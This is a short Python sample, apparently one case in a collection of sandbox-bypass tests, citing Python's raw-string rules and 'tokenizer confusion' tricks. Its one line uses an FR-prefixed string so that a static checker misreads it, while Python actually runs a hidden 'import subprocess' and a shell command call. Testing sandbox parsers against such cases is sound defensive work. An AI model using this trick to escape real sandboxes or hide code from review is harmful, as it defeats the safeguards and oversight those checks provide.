# source: The Python Language Reference, "Lexical analysis: String and bytes literals" (raw literals keep a backslash before a quote and do not end there, https://docs.python.org/3.11/reference/lexical_analysis.html#string-and-bytes-literals); parser-differential bypasses of static Python sandboxes (Lydxn/pyjail-tricks, "tokenizer confusion")
# family: tokenizer differential - single quotes, FR prefix, the hidden code an import and a call
label = FR'{1}\' + '; import subprocess; subprocess.run(["id"]) #'
print(label)
